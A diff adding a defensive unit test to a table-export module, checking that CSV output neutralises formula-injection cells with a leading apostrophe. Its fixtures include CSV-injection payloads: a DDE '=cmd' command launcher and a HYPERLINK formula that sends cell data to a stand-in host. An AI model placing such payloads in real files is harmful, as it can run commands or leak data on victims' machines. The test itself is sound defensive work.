@@ -91,6 +91,39 @@ describe("export tables", () => {
   });
 });
 
+describe("export tables in a spreadsheet", () => {
+  // OWASP, "CSV Injection": a cell starting with = + - @ tab or CR is run as a formula by Excel,
+  // LibreOffice and Google Sheets; a leading apostrophe makes it text there
+  const HOSTILE = report("=cmd|' /C calc'!A0", "veyru", [
+    {
+      metric_name: "round_success",
+      score: -0.5,
+      score_unit: "+units",
+      summary: '=HYPERLINK("https://example.invalid/?d="&A1,"open")',
+      per_round: [{ round_number: 1, value: -1, note: "@SUM(A1:A9)" }],
+      per_agent: [
+        { agent_id: "-2+3", value: 1, note: "\tleading tab" },
+        { agent_id: "a=b", value: 1, note: "\rcarriage" },
+      ],
+    },
+  ]);
+  const [measurements, perRound, perAgent] = exportTables([{ runDir: "runs/x", report: HOSTILE, seed: "-7" }]);
+
+  it("defuses text cells that start like a formula; numbers and JSON Lines are untouched", () => {
+    expect(tableToCsv(measurements as never).split("\r\n")[1]).toBe(
+      `veyru,'=cmd|' /C calc'!A0,'-7,runs/x,round_success,-0.5,'+units,"'=HYPERLINK(""https://example.invalid/?d=""&A1,""open"")"`,
+    );
+    expect(tableToCsv(perRound as never).split("\r\n")[1]).toBe("veyru,'=cmd|' /C calc'!A0,'-7,runs/x,round_success,1,-1.0,'@SUM(A1:A9)");
+    expect(tableToCsv(perAgent as never).split("\r\n").slice(1, 3)).toEqual([
+      "veyru,'=cmd|' /C calc'!A0,'-7,runs/x,round_success,'-2+3,1.0,'\tleading tab",
+      `veyru,'=cmd|' /C calc'!A0,'-7,runs/x,round_success,a=b,1.0,"'\rcarriage"`,
+    ]);
+    expect(tableToJsonl(perAgent as never).split("\n")[0]).toBe(
+      '{"scenario":"veyru","run_id":"=cmd|\' /C calc\'!A0","seed":"-7","run_dir":"runs/x","metric_name":"round_success","agent_id":"-2+3","value":1.0,"note":"\\tleading tab"}',
+    );
+  });
+});
+
 describe("agent-eval export", () => {
   function veyruRun(seed: number, messages: string[]): string {
     return toJsonl(
